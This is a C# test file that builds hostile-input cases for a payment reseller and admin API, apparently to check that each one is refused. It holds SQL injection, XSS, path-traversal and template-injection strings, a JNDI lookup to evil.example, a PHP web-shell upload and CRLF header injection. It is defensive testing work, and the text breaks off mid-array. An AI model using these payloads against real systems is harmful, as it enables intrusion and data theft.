using System.Text;
using System.Text.Json;

namespace PaymentHub.Tests.Hostile;

/// <summary>
/// The hostile inputs, generated from tables: every reseller endpoint, admin POST/PATCH/PUT endpoint and payment callback,
/// crossed with charsets, malformed encodings, number forms, Unicode digits and spaces, control characters, oversized and
/// duplicated fields, wrong methods and content types, injection strings, enum numbers and lists, and regex edge cases.
/// </summary>
public static class HostileCases
{
    // ---- the documented replies (literal on purpose: they are the contract) ----
    private const string UnsupportedCharset = "Unsupported charset. Send the body as UTF-8 (charset=utf-8; us-ascii and iso-8859-1 are also accepted).";
    private const string UnreadableContentType = "The Content-Type header cannot be read.";
    private const string NotForm = "Unsupported content type. Send the parameters as form data (application/x-www-form-urlencoded or multipart/form-data).";
    private const string PartNotText = "Unsupported content type in a multipart part: a parameter is text/plain (or has no Content-Type).";
    private const string BadBytes = "Malformed form body: a parameter is not valid text in the declared charset.";
    private const string Malformed = "Malformed form body.";
    private const string NoBoundary = "Malformed form body: the multipart boundary is missing or too long.";
    private const string TooManyOrTooLong = "Malformed form body: too many parameters, or a parameter longer than 4096 characters.";
    private const string TooLarge = "Request body too large.";
    private const string ControlCharacters = "Invalid characters in parameter.";
    private const string ControlInName = "Invalid characters in a parameter name.";
    private const string Duplicate = "Duplicate parameter.";
    private const string NotAllowed = "Method not allowed.";
    private const string Validation = "One or more validation errors occurred.";
    private const string NotJson = "The request body is not valid JSON";
    private const string InvalidAmount = "Invalid amount";
    private const string NoBody = "The request body is missing";
    private const string UnsupportedMedia = "Unsupported Media Type";

    private static readonly string[] Injections =
    [
        "' OR '1'='1", "1; DROP TABLE resellers;--", "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>",
        "../../../../etc/passwd", "..\\..\\windows\\win.ini", "${jndi:ldap://evil.example/a}", "{{7*7}}",
    ];

    private static readonly (string Name, string Value)[] ControlCharacterValues =
    [
        ("NUL", "\u0000"), ("CRLF", "\r\n"), ("DEL", "\u007f"), ("NEL", "\u0085"), ("ESC", "\u001b"), ("TAB", "\t"),
        ("header injection", "\r\nSet-Cookie: hostile=1"),
    ];

    // ---- reseller endpoints, each with a valid request to mutate ----
    private sealed record ResellerEndpoint(string Name, string Path, (string Key, string Value)[] Fields, string ControlField)
    {
        public (string Key, string Value)[] All => [("api_key", "$API_KEY"), ("api_secret", "$API_SECRET"), .. Fields];

        public (string Key, string Value)[] With(string key, string value) =>
            All.Any(f => f.Key == key) ? All.Select(f => f.Key == key ? (key, value) : f).ToArray() : [.. All, (key, value)];

        public string Value(string key) => All.First(f => f.Key == key).Value;
    }

    private static readonly (string, string)[] BillFields =
    [
        ("provider_id", "$PROVIDER"), ("service_id", "$SERVICE"), ("meter_number", "123456789"), ("bill_month", "2026-04"),
        ("contact_number", "01711111111"),
    ];

    private static readonly ResellerEndpoint Submit = new("bill submit", "/api/bill-payment.php?action=submit", [.. BillFields, ("amount", "500")], "meter_number");
    private static readonly ResellerEndpoint ServiceCheck = new("bill service_check", "/api/bill-payment.php?action=service_check", [("provider_id", "$PROVIDER")], "provider_id");
    private static readonly ResellerEndpoint BillStatus = new("bill status_check", "/api/bill-payment.php?action=status_check", [("order_number", "$ORDER")], "order_number");
    private static readonly ResellerEndpoint Recharge = new("recharge", "/api/mobile-recharge.php",
        [("phone", "01712345678"), ("amount", "20"), ("operator", "GP"), ("account_type", "prepaid")], "phone");
    private static readonly ResellerEndpoint RechargeStatus = new("recharge status_check", "/api/mobile-recharge.php?action=status_check", [("order_number", "$RECHARGE")], "order_number");
    private static readonly ResellerEndpoint AddFund = new("wallet add_fund", "/api/wallet.php?action=add_fund", [("amount", "100"), ("gateway", "shurjopay")], "gateway");
    private static readonly ResellerEndpoint TopUpStatus = new("wallet topup_status", "/api/wallet.php?action=topup_status", [("topup_id", "$TOPUP")], "topup_id");

    private const string EventId = "evt_0123456789abcdef0123456789abcdef";

    private static readonly ResellerEndpoint CallbackCreate = new("callbacks callback_create", "/api/callbacks.php?action=callback_create",
        [("url", "https://hooks.example.test/hostile-2"), ("events", "bill.succeeded,wallet.debited")], "url");
    private static readonly ResellerEndpoint CallbackRedeliver = new("callbacks callback_redeliver", "/api/callbacks.php?action=callback_redeliver",
        [("callback_id", "$CALLBACK"), ("event_id", EventId)], "event_id");

    /// <summary>The callbacks.php actions that take one callback_id (and would change or show that endpoint).</summary>
    private static readonly ResellerEndpoint[] CallbackIdEndpoints =
    [
        .. new[] { "callback_rotate", "callback_delete", "callback_enable", "callback_deliveries" }.Select(action =>
            new ResellerEndpoint($"callbacks {action}", $"/api/callbacks.php?action={action}", [("callback_id", "$CALLBACK")], "callback_id")),
        CallbackRedeliver,
    ];

    private static readonly ResellerEndpoint[] ResellerEndpoints =
    [
        CallbackCreate,
        new("callbacks callback_list", "/api/callbacks.php?action=callback_list", [], "api_key"),
        .. CallbackIdEndpoints,
        new("bill provider_check", "/api/bill-payment.php?action=provider_check", [], "api_key"),
        ServiceCheck,
        Submit,
        BillStatus,
        new("bill bill_inquiry", "/api/bill-payment.php?action=bill_inquiry", BillFields, "contact_number"),
        Recharge,
        RechargeStatus,
        AddFund,
        TopUpStatus,
        new("wallet balance", "/api/wallet.php?action=balance", [], "api_secret"),
    ];

    // ---- admin endpoints with a body, each with a valid body (every one of them would write if it got through) ----
    /// <param name="OptionalBody">The endpoint takes no body at all as "all defaults" (a key is created), so an empty one is not refused.</param>
    private sealed record AdminEndpoint(string Name, HttpMethod Method, string Path, string Body, bool OptionalBody = false);

    private static readonly HttpMethod Patch = HttpMethod.Patch;

    private static readonly AdminEndpoint[] AdminEndpoints =
    [
        new("POST resellers", HttpMethod.Post, "/admin/v1/resellers", """{"name":"Hostile Two"}"""),
        new("PATCH reseller", Patch, "/admin/v1/resellers/$RESELLER", """{"name":"Renamed Shop","status":"suspended"}"""),
        new("POST wallet credit", HttpMethod.Post, "/admin/v1/resellers/$RESELLER/wallet/credits", """{"amount":25.00,"note":"hostile"}"""),
        new("POST wallet debit", HttpMethod.Post, "/admin/v1/resellers/$RESELLER/wallet/debits", """{"amount":25.00,"note":"hostile"}"""),
        new("POST providers", HttpMethod.Post, "/admin/v1/providers", """{"name":"Hostile Power","logo":"x.png"}"""),
        new("PATCH provider", Patch, "/admin/v1/providers/$PROVIDER", """{"name":"Renamed Power","logo":"y.png"}"""),
        new("POST services", HttpMethod.Post, "/admin/v1/providers/$PROVIDER/services",
            """{"name":"Hostile Service","logo":"s.png","module_fields":["meter_number"],"min_amount":10,"max_amount":100,"fee":0,"commission":0,"connector":"manual","connector_product_code":"X1"}"""),
        new("PATCH service", Patch, "/admin/v1/services/$SERVICE", """{"name":"Renamed Service","logo":"z.png"}"""),
        new("POST order complete", HttpMethod.Post, "/admin/v1/orders/$ORDER/complete", """{"token_number":"TOKEN-1"}"""),
        new("POST order cancel", HttpMethod.Post, "/admin/v1/orders/$ORDER/cancel", """{"cancel_note":"hostile"}"""),
        new("PATCH operator", Patch, "/admin/v1/operators/GP", """{"name":"Grameenphone X"}"""),
        new("PUT reward settings", HttpMethod.Put, "/admin/v1/rewards/settings", """{"points_percent":1.5}"""),
        new("PUT reward level", HttpMethod.Put, "/admin/v1/rewards/levels/$LEVEL", """{"name":"bronze","min_lifetime_points":0}"""),
        new("POST cashback offer", HttpMethod.Post, "/admin/v1/cashback-offers", Offer("Offer Two")),
        new("PUT cashback offer", HttpMethod.Put, "/admin/v1/cashback-offers/$OFFER", Offer("Offer Renamed")),
        new("POST recharge complete", HttpMethod.Post, "/admin/v1/recharges/$RECHARGE/complete", """{"operator_transaction_id":"OP-1"}"""),
        new("POST recharge fail", HttpMethod.Post, "/admin/v1/recharges/$RECHARGE/fail", """{"reason":"hostile"}"""),
        new("POST admin key", HttpMethod.Post, "/admin/v1/admin-keys", """{"name":"hostile ops"}"""),
        new("POST top-up approve", HttpMethod.Post, "/admin/v1/topups/$TOPUP/approve", """{"note":"hostile"}"""),
        new("POST top-up reject", HttpMethod.Post, "/admin/v1/topups/$TOPUP/reject", """{"note":"hostile"}"""),
        new("POST reseller top-up", HttpMethod.Post, "/admin/v1/resellers/$RESELLER/topups", """{"amount":100,"gateway":"shurjopay","customer_name":"Rahim"}"""),
        new("PUT funding gateway", HttpMethod.Put, "/admin/v1/funding-gateways/shurjopay",
            """{"is_enabled":false,"min_amount":10,"max_amount":100,"fee_percent":0,"fee_fixed":0}"""),
        new("POST iak product service", HttpMethod.Post, "/admin/v1/connectors/iak/products/PLNPOSTPAID/services",
            """{"provider_id":$PROVIDER,"module_fields":["meter_number"],"min_amount":10,"max_amount":100}"""),
        new("POST reseller webhook", HttpMethod.Post, "/admin/v1/resellers/$RESELLER/webhooks",
            """{"url":"https://hooks.example.test/admin","events":["bill.succeeded","wallet.debited"]}"""),
        new("POST webhook redeliver-failed", HttpMethod.Post, "/admin/v1/webhooks/$CALLBACK/redeliver-failed", """{"since":"2026-01-01T00:00:00Z"}"""),
        new("POST api key", HttpMethod.Post, "/admin/v1/resellers/$RESELLER/api-keys",
            """{"requests_per_second":5,"allowed_ips":["203.0.113.7","198.51.100.0/24"],"expires_at":"2099-01-01T00:00:00Z"}""", OptionalBody: true),
        new("PATCH api key", Patch, "/admin/v1/resellers/$RESELLER/api-keys/$API_KEY_ID",
            """{"requests_per_second":5,"allowed_ips":["203.0.113.7"],"expires_at":"2099-01-01T00:00:00Z"}"""),
    ];

    private static string Offer(string name) =>
        $$"""{"name":"{{name}}","operator_code":"GP","min_amount":10,"type":"fixed","value":5,"valid_from":"2026-01-01T00:00:00Z","valid_until":"2027-01-01T00:00:00Z","max_per_reseller_per_day":1}""";

    private static AdminEndpoint Admin(string name) => AdminEndpoints.Single(e => e.Name == name);

    public static readonly IReadOnlyDictionary<string, HostileCase> All = Build();

    public static IEnumerable<object[]> Names => All.Keys.Select(k => new object[] { k });

    private static Dictionary<string, HostileCase> Build()
    {
        var cases = new List<HostileCase>();
        AddResellerEncodingCases(cases);
        AddResellerFieldCases(cases);
        AddResellerNumberCases(cases);
        AddAdminBodyCases(cases);
        AddAdminFieldCases(cases);
        AddAdminEnumAndQueryCases(cases);
        AddCallbackCases(cases);
        AddAdminWebhookKeyAndStatementCases(cases);
        AddPaymentPageCases(cases);
        var byName = new Dictionary<string, HostileCase>(StringComparer.Ordinal);
        foreach (var c in cases)
        {
            if (!byName.TryAdd(c.Name, c))
            {
                throw new InvalidOperationException($"Two hostile cases are named '{c.Name}'.");
            }
        }
        return byName;
    }

    private static Expected Json(int status, string? error = null, string? field = null) => new(status, Reply.ResellerJson, error, field);

    private static Expected Problem(int status, string? title = null, string? field = null) => new(status, Reply.Problem, Field: field, Title: title);

    // ---- reseller API: the body as a whole ----
    private static void AddResellerEncodingCases(List<HostileCase> cases)
    {
        string[] charsets = ["utf-7", "UTF-7", "\"utf-7\"", "bogus", "x-unknown-9", "utf-16", "utf-16le", "utf-32", "utf-8; charset=utf-7"];
        foreach (var e in ResellerEndpoints)
        {
            HostileCase Case(string what, Func<HostileFixture, HttpContent?> body, Expected expected, string? notEchoed = null) =>
                new($"{e.Name} | {what}", HttpMethod.Post, e.Path, body, expected, NotEchoed: notEchoed);

            foreach (var charset in charsets)
            {
                cases.Add(Case($"urlencoded charset={charset}", Bodies.UrlEncoded(e.All, $"{Bodies.Form}; charset={charset}"),
                    Json(415, UnsupportedCharset)));
            }
            cases.Add(Case("urlencoded charset= (empty)", Bodies.UrlEncoded(e.All, $"{Bodies.Form}; charset="), Json(415, UnsupportedCharset)));
            foreach (var charset in new[] { "utf-7", "bogus", "utf-16" })
            {
                cases.Add(Case($"multipart part charset={charset}",
                    Bodies.Multipart(e.All.Select(f => (f.Key, f.Value, f.Key == "api_secret" ? $"text/plain; charset={charset}" : (string?)null))),
                    Json(415, UnsupportedCharset, "api_secret")));
            }
            cases.Add(Case("multipart part application/octet-stream",
                Bodies.Multipart(e.All.Select(f => (f.Key, f.Value, f.Key == "api_key" ? "application/octet-stream" : (string?)null))),
                Json(415, PartNotText, "api_key")));
            cases.Add(Case("multipart charset=utf-7 on the body",
                Bodies.Multipart(e.All.Select(f => (f.Key, f.Value, (string?)null)), "multipart/form-data; boundary=hostile-boundary-7d1a; charset=utf-7"),
                Json(415, UnsupportedCharset)));
            cases.Add(Case("multipart file upload",
                Bodies.Multipart([.. e.All.Select(f => (f.Key, f.Value, (string?)null)), ("upload", "<?php system($_GET['c']); ?>", "text/plain")], fileName: "shell.php"),
                Json(400, "File uploads are not accepted.")));
            cases.Add(Case("multipart with a header line that is not a header",
                Bodies.Bytes(_ => "--hostile-boundary-7d1a\r\nnot a header\r\n\r\nx\r\n--hostile-boundary-7d1a--\r\n"u8.ToArray(),
                    "multipart/form-data; boundary=hostile-boundary-7d1a"), Json(400, Malformed)));
            cases.Add(Case("multipart never closed", Bodies.Multipart(e.All.Select(f => (f.Key, f.Value, (string?)null)), closed: false), Json(400, Malformed)));
            cases.Add(Case("multipart without boundary",
                Bodies.Multipart(e.All.Select(f => (f.Key, f.Value, (string?)null)), "multipart/form-data"), Json(400, NoBoundary)));

            // Bytes that are not UTF-8 (an overlong '/', a truncated sequence, 0xFF), and a high byte declared as US-ASCII.
            cases.Add(Case("overlong UTF-8", Bodies.UrlEncoded(e.All, rawTail: "note=%C0%AF..%C0%AFetc"), Json(400, BadBytes, "note")));
            cases.Add(Case("truncated UTF-8", Bodies.UrlEncoded(e.All, rawTail: "note=ab%E0%A4"), Json(400, BadBytes, "note")));
            cases.Add(Case("byte 0xFF", Bodies.UrlEncoded(e.All, rawTail: "note=%FF%FE"), Json(400, BadBytes, "note")));
            cases.Add(Case("high byte as us-ascii", Bodies.UrlEncoded(e.All, $"{Bodies.Form}; charset=us-ascii", "note=caf%E9"), Json(400, BadBytes, "note")));

            cases.Add(Case("Content-Type text/plain", Bodies.UrlEncoded(e.All, "text/plain"), Json(415, NotForm)));
            cases.Add(Case("Content-Type application/json", Bodies.Json("""{"api_key":"$API_KEY","api_secret":"$API_SECRET"}"""), Json(415, NotForm)));
            cases.Add(Case("Content-Type application/xml", Bodies.Json("<api_key>$API_KEY</api_key>", "application/xml"), Json(415, NotForm)));
            cases.Add(Case("no Content-Type", Bodies.UrlEncoded(e.All, null), Json(415, NotForm)));
            cases.Add(Case("Content-Type multipart/mixed", Bodies.UrlEncoded(e.All, "multipart/mixed; boundary=x"), Json(415, NotForm)));
            cases.Add(Case("unparseable Content-Type", Bodies.UrlEncoded(e.All, "application/x-www-form-urlencoded; ;=;"), Json(415, UnreadableContentType)));

            cases.Add(Case("40 KiB body", Bodies.UrlEncoded(e.With("note", new string('a', 40 * 1024))), Json(413, TooLarge)));
            cases.Add(Case("40 KiB chunked body",
                Bodies.Chunked(f => Encoding.ASCII.GetBytes(f.Resolve($"api_key=$API_KEY&api_secret=$API_SECRET&note={new string('a', 40 * 1024)}")), Bodies.Form),
                Json(413, TooLarge)));
            cases.Add(Case("40 KiB multipart body", Bodies.Multipart(e.With("note", new string('a', 40 * 1024)).Select(f => (f.Key, f.Value, (string?)null))),
                Json(413, TooLarge)));
            cases.Add(Case("field of 5000 characters", Bodies.UrlEncoded(e.With("note", new string('a', 5000))), Json(400, TooManyOrTooLong)));
            cases.Add(Case("70 fields", Bodies.UrlEncoded([.. e.All, .. Enumerable.Range(1, 70).Select(i => ($"f{i}", "x"))]), Json(400, TooManyOrTooLong)));
            cases.Add(Case("parameter name of 150 characters", Bodies.UrlEncoded(e.With(new string('k', 150), "x")), Json(400, TooManyOrTooLong)));
        }

        foreach (var path in ResellerEndpoints.Select(e => e.Path.Split('?')[0]).Distinct())
        {
            foreach (var method in new[] { HttpMethod.Get, HttpMethod.Put, HttpMethod.Delete, HttpMethod.Patch })
            {
                cases.Add(new($"{path} | method {method}", method, path, method == HttpMethod.Get || method == HttpMethod.Delete
                    ? Bodies.None
                    : Bodies.UrlEncoded([("api_key", "$API_KEY"), ("api_secret", "$API_SECRET")]), Json(405, NotAllowed)));
            }
        }
        foreach (var action in new[] { "submit' OR 1=1", "<script>alert(1)</script>", "submit\r\nSet-Cookie: hostile=1", "SUBMIT", "submit ", "../wallet" })
        {
            cases.Add(new($"bill action={Bodies.Show(action)}", HttpMethod.Post, $"/api/bill-payment.php?action={Uri.EscapeDataString(action)}",
                Bodies.UrlEncoded(Submit.All), Json(400, "Invalid action."), NotEchoed: action.Length > 8 ? action : null));
        }
        cases.Add(new("/api/unknown.php | 404", HttpMethod.Post, "/api/unknown.php", Bodies.UrlEncoded(Submit.All), Json(404, "Not found.")));
    }

    // ---- reseller API: one field at a time ----
    private static void AddResellerFieldCases(List<HostileCase> cases)
    {
        foreach (var e in ResellerEndpoints)
        {
            HostileCase Case(string what, (string, string)[] fields, Expected expected, string? notEchoed = null) =>
                new($"{e.Name} | {what}", HttpMethod.Post, e.Path, Bodies.UrlEncoded(fields), expected, NotEchoed: notEchoed);

            var field = e.ControlField;
            foreach (var (name, value) in ControlCharacterValues)
            {
                cases.Add(Case($"{name} in {field}", e.With(field, e.Value(field) + value + "1"), Json(422, ControlCharacters, field)));
            }
            cases.Add(Case($"trailing newline in {field}", e.With(field, e.Value(field) + "\n"), Json(422, ControlCharacters, field)));
            cases.Add(Case("control character in a parameter name", [.. e.All, ("no\u0000te", "x")], Json(422, ControlInName)));
            cases.Add(Case("api_key twice", [.. e.All, ("api_key", "$API_KEY")], Json(422, Duplicate, "api_key")));
            cases.Add(Case("api_key and API_KEY", [.. e.All, ("API_KEY", "$API_KEY")], Json(422, Duplicate, "api_key")));
            if (e.Fields.Length > 0)
            {
                var own = e.Fields[0].Key;
                cases.Add(Case($"{own} twice", [.. e.All, (own, e.Value(own))], Json(422, Duplicate, own)));
            }
            foreach (var injection in Injections.Take(4))
            {
                cases.Add(Case($"api_key {Bodies.Show(injection)}", e.With("api_key", injection), Json(401, "Invalid API credentials."), injection));
            }
            cases.Add(Case("api_key with a no-break space", e.With("api_key", "$API_KEY\u00a0"), Json(401, "Invalid API credentials.")));
            cases.Add(Case("api_secret with an ideographic space", e.With("api_secret", "$API_SECRET\u3000"), Json(401, "Invalid API credentials.")));
        }

        // Identifiers: Unicode digits and spaces, signs, exponents, injection strings.
        string[] idForms = ["$PROVIDER\u00a0", "\u00a0$PROVIDER", "$PROVIDER\u3000", "$PROVIDER_FULLWIDTH", "$PROVIDER_ARABIC", "+$PROVIDER", "-$PROVIDER",
            "$PROVIDER.0", "$PROVIDERe0", "0x$PROVIDER", "$PROVIDER,$PROVIDER", "99999999999999999999"];
        foreach (var id in idForms.Concat(Injections))
        {
            cases.Add(new($"{ServiceCheck.Name} | provider_id {Bodies.Show(id)}", HttpMethod.Post, ServiceCheck.Path,
                Bodies.UrlEncoded(ServiceCheck.With("provider_id", id)), Json(404, "Invalid provider ID."), NotEchoed: Injections.Contains(id) ? id : null));
            cases.Add(new($"{Submit.Name} | provider_id {Bodies.Show(id)}", HttpMethod.Post, Submit.Path,
                Bodies.UrlEncoded(Submit.With("provider_id", id)), Json(404, "Invalid service or provider.")));
        }
        foreach (var reference in new[] { "$ORDER\u00a0", "$ORDER\u3000", "\u2003$ORDER" }.Concat(Injections))
        {
            cases.Add(new($"{BillStatus.Name} | order_number {Bodies.Show(reference)}", HttpMethod.Post, BillStatus.Path,
                Bodies.UrlEncoded(BillStatus.With("order_number", reference)), Json(404, "Transaction not found."), NotEchoed: Injections.Contains(reference) ? reference : null));
        }
        foreach (var reference in new[] { "$RECHARGE\u00a0", "$RECHARGE\u3000" }.Concat(Injections.Take(4)))
        {
            cases.Add(new($"{RechargeStatus.Name} | order_number {Bodies.Show(reference)}", HttpMethod.Post, RechargeStatus.Path,
                Bodies.UrlEncoded(RechargeStatus.With("order_number", reference)), Json(404, "Transaction not found.")));
        }
        foreach (var reference in new[] { "$TOPUP\u00a0", "$TOPUP\u3000", "$TOPUP\u2028x" }.Concat(Injections.Take(4)))
        {
            cases.Add(new($"{TopUpStatus.Name} | topup_id {Bodies.Show(reference)}", HttpMethod.Post, TopUpStatus.Path,
                Bodies.UrlEncoded(TopUpStatus.With("topup_id", reference)), Json(404, "Top-up not found.")));
        }
        foreach (var phone in new[] { "01712345678\u00a0", "\u00a001712345678", "01712345678\u3000", "\u09e6\u09e7\u09ed\u09e7\u09e8\u09e9\u09ea\u09eb\u09ec\u09ed\u09ee",
                     "\uff10\uff11\uff17\uff11\uff12\uff13\uff14\uff15\uff16\uff17\uff18", "0171234567\u0668", "+880 1712345678", "017-1234-5678", "1712345678",
                     "01712345678; DROP TABLE recharge_orders" })
        {
            cases.Add(new($"{Recharge.Name} | phone {Bodies.Show(phone)}", HttpMethod.Post, Recharge.Path, Bodies.UrlEncoded(Recharge.With("phone", phone)),
                Json(422, "Invalid operator number for this recharge.")));
        }
        foreach (var code in new[] { "GP\u00a0ST", "GP\u3000ST", "GP\u00a0", "\u0262\u1d18", "\uff27\uff30", "0", "1", "GP,BL", "GP' OR '1'='1", "<script>GP</script>" })
        {
            cases.Add(new($"{Recharge.Name} | operator {Bodies.Show(code)}", HttpMethod.Post, Recharge.Path, Bodies.UrlEncoded(Recharge.With("operator", code)),
                Json(422, "Invalid operator.")));
        }
        foreach (var type in new[] { "PREPA\u0130D", "prepaid\u00a0", "0", "1", "prepaid,postpaid", "\uff50repaid", "pre paid" })
        {
            cases.Add(new($"{Recharge.Name} | account_type {Bodies.Show(type)}", HttpMethod.Post, Recharge.Path, Bodies.UrlEncoded(Recharge.With("account_type", type)),
                Json(422, "Invalid account type.")));
        }
        foreach (var gateway in new[] { "0", "1", "shurjopay,securesoftpay", "shurjopay\u00a0", "\u017fhurjopay", "SHURJOPAY\u3000", "\uff53hurjopay", "ShurjoPay " + "x" })
        {
            cases.Add(new($"{AddFund.Name} | gateway {Bodies.Show(gateway)}", HttpMethod.Post, AddFund.Path, Bodies.UrlEncoded(AddFund.With("gateway", gateway)),
                Json(422, "Invalid gateway.")));
        }
        foreach (var ip in new[] { "1.2", "127.1", "1.2.3", "0x7f.0.0.1", "010.0.0.1", "1.2.3.4.5", "256.1.1.1", "1.2.3.-4", "::1%eth0", "[::1]", "fe80::1%1",
                     "\u0661.\u0662.\u0663.\u0664", "1.2.3.4\u00a0", "::ffff:1.2.3.4:80", "1.2.3.4/24", "localhost" })
        {
            cases.Add(new($"{AddFund.Name} | client_ip {Bodies.Show(ip)}", HttpMethod.Post, AddFund.Path, Bodies.UrlEncoded(AddFund.With("client_ip", ip)),
                Json(422, "Invalid client_ip.", "client_ip")));
        }
        foreach (var url in new[] { "javascript:alert(1)", "https://shop.example.test/\u00a0x", "https://shop.example.test/a b", "//evil.example/", "data:text/html,<script>alert(1)</script>" })
        {
            cases.Add(new($"{AddFund.Name} | return_url {Bodies.Show(url)}", HttpMethod.Post, AddFund.Path, Bodies.UrlEncoded(AddFund.With("return_url", url)),
                Json(422, "Invalid return_url.", "return_url")));
        }
        foreach (var month in new[] { "2026-04\u00a0", "\u0662\u0660\u0662\u0666-\u0660\u0664", "\uff12\uff10\uff12\uff16-\uff10\uff14", "2026-04x", "2026-4-1", "202604" })
        {
            cases.Add(new($"{Submit.Name} | bill_month {Bodies.Show(month)}", HttpMethod.Post, Submit.Path, Bodies.UrlEncoded(Submit.With("bill_month", month)),
                Json(422, "Invalid bill_month. Send bill_month as YYYY-MM, or bill_month_month (01-12) with bill_month_year (YYYY).", "bill_month")));
        }
        cases.Add(new($"{Submit.Name} | meter_number of 101 characters", HttpMethod.Post, Submit.Path,
            Bodies.UrlEncoded(Submit.With("meter_number", new string('9', 101))), Json(422, "Module data is too long (100 characters at most).", "meter_number")));
        cases.Add(new($"{Submit.Name} | request_id with a no-break space", HttpMethod.Post, Submit.Path,
            Bodies.UrlEncoded(Submit.With("request_id", "req\u00a01")), Json(422, "Invalid request_id: use up to 100 printable ASCII characters.", "request_id")));
    }

    // ---- the one amount grammar, on every reseller endpoint that takes an amount ----
    private static void AddResellerNumberCases(List<HostileCase> cases)
    {
        string[] amounts =
        [
            "050", "007.50", "00", "1e3", "5E1", "0x10", "-0", "-5", "+50", "1.234", "50.", ".5", "1,000", "1 000", "50.0.0", "1_000",
            "99999999999999", "1000000000000", "0", "0.00", "0.0", "NaN", "Infinity", "\u0665\u0660", "\u0661\u0660\u0660", "\uff15\uff10", "\u09eb\u09e6",
            "50\u00a0", "\u00a050", "50\u3000", "\u300050", "50\u2009", "5\u00a00", "50\u200b", "\u066b5", "50\u066b00", "\ufe6350",
        ];
        foreach (var amount in amounts)
        {
            cases.Add(new($"{Submit.Name} | amount {Bodies.Show(amount)}", HttpMethod.Post, Submit.Path, Bodies.UrlEncoded(Submit.With("amount", amount)),
                Json(422, "Invalid amount. Send a positive number with at most two decimals.", "amount")));
            cases.Add(new($"{Recharge.Name} | amount {Bodies.Show(amount)}", HttpMethod.Post, Recharge.Path, Bodies.UrlEncoded(Recharge.With("amount", amount)),
                Json(422, "Invalid recharge amount.")));
            cases.Add(new($"{AddFund.Name} | amount {Bodies.Show(amount)}", HttpMethod.Post, AddFund.Path, Bodies.UrlEncoded(AddFund.With("amount", amount)),
                Json(422, "Invalid amount.", "amount")));
        }
    }

    // ---- admin API: the body as a whole ----
    private static void AddAdminBodyCases(List<HostileCase> cases)
    {
        foreach (var e in AdminEndpoints)
        {
            HostileCase Case(string what, Func<HostileFixture, HttpContent?> body, Expected expected) =>
                new($"admin {e.Name} | {what}", e.Method, e.Path, body, expected, AsAdmin: true);

            foreach (var charset in new[] { "bogus", "utf-7", "utf-16", "utf-8; charset=bogus" })
            {
                cases.Add(Case($"charset={charset}", Bodies.Json(e.Body, $"application/json; charset={charset}"), Problem(415, UnsupportedMedia)));
            }
            var firstProperty = e.Body[1..e.Body.IndexOfAny([',', '}'])];
            var firstName = firstProperty[1..firstProperty.IndexOf('"', 1)];
            cases.Add(Case("not JSON", Bodies.Json("{not json"), Problem(400, NotJson)));
            cases.Add(Case("truncated JSON", Bodies.Json(e.Body[..(e.Body.Length / 2)]), Problem(400, NotJson)));
            cases.Add(Case("a JSON array", Bodies.Json("[]"), Problem(400, NotJson)));
            cases.Add(Case($"{firstName} given twice", Bodies.Json("{" + firstProperty + "," + e.Body[1..]), Problem(400, NotJson)));
            // A money field answers "Invalid amount" (MoneyJsonConverter), any other "not valid JSON": either is a 400 that writes nothing.
            cases.Add(Case($"{firstName} an object", Bodies.Json("{\"" + firstName + "\":{\"$ne\":1}" + e.Body[(1 + firstProperty.Length)..]), Problem(400)));
            if (!e.OptionalBody)
            {
                cases.Add(Case("empty body", Bodies.Json(""), Problem(400, NoBody)));
            }
            cases.Add(Case("Content-Type text/plain", Bodies.Json(e.Body, "text/plain"), Problem(415, UnsupportedMedia)));
            cases.Add(Case("urlencoded form", Bodies.UrlEncoded([("name", "x")]), Problem(415, UnsupportedMedia)));
            cases.Add(Case("body over 1 MiB", Bodies.Json("{\"" + firstName + "\":\"" + new string('a', 1024 * 1024 + 10) + "\"}"), Problem(413, "Content Too Large")));
        }
        cases.Add(new("admin POST resellers | no admin key", HttpMethod.Post, "/admin/v1/resellers", Bodies.Json("""{"name":"Anonymous"}"""), Problem(401, "Unauthorized")));
        cases.Add(new("admin POST resellers | charset=utf-7 and no admin key", HttpMethod.Post, "/admin/v1/resellers",
            Bodies.Json("""{"name":"Anonymous"}""", "application/json; charset=utf-7"), Problem(415, UnsupportedMedia)));
        cases.Add(new("admin GET unknown path | 404", HttpMethod.Get, "/admin/v1/nothing-here", Bodies.None, Problem(404), AsAdmin: true));
        cases.Add(new("admin DELETE resellers | 405", HttpMethod.Delete, "/admin/v1/resellers", Bodies.None, Problem(405), AsAdmin: true));
        cases.Add(new("admin PUT resellers/id | 405", HttpMethod.Put, "/admin/v1/resellers/$RESELLER", Bodies.Json("""{"name":"x"}"""), Problem(405), AsAdmin: true));

        // Amounts: JSON numbers or strings in the amount grammar ("100.00" is accepted: AdminAmountTests), positive, two
        // decimals, at most the ceiling.
        foreach (var (amount, title) in new[]
                 {
                     ("-0", Validation), ("0", Validation), ("-5", Validation), ("1.234", Validation), ("99999999999999", Validation), ("0.001", Validation),
                     ("1e400", InvalidAmount), ("\"050\"", InvalidAmount), ("050", NotJson), ("NaN", NotJson), ("null", InvalidAmount), ("true", InvalidAmount),
                     ("[100]", InvalidAmount), ("1,000", NotJson), ("0x10", NotJson), ("\"\u0665\u0660\"", InvalidAmount), ("\"1e3\"", InvalidAmount),
                 })
        {
            foreach (var e in new[] { Admin("POST wallet credit"), Admin("POST wallet debit"), Admin("POST reseller top-up") })
            {
                cases.Add(new($"admin {e.Name} | amount {Bodies.Show(amount)}", e.Method, e.Path,
                    Bodies.Json(e.Body.Replace("\"amount\":25.00", $"\"amount\":{amount}").Replace("\"amount\":100", $"\"amount\":{amount}")),
                    Problem(400, title, title == Validation ? "Amount" : null), AsAdmin: true));
            }
        }
    }

    // ---- admin API: names and free text, and regex edges ----
    private static void AddAdminFieldCases(List<HostileCase> cases)
    {
        (string Endpoint, string Json, string Property)[] textFields =
        [
            ("POST resellers", "name", "Name"), ("PATCH reseller", "name", "Name"), ("POST providers", "name", "Name"), ("POST providers", "logo", "Logo"),
            ("PATCH provider", "name", "Name"), ("PATCH provider", "logo", "Logo"), ("POST services", "name", "Name"),
            ("POST services", "connector_product_code", "ConnectorProductCode"), ("PATCH service", "name", "Name"), ("PATCH service", "logo", "Logo"),
            ("POST order complete", "token_number", "TokenNumber"), ("POST order cancel", "cancel_note", "CancelNote"), ("PATCH operator", "name", "Name"),
            ("PUT reward level", "name", "Name"), ("POST cashback offer", "name", "Name"), ("PUT cashback offer", "name", "Name"),
            ("POST recharge complete", "operator_transaction_id", "OperatorTransactionId"), ("POST recharge fail", "reason", "Reason"),
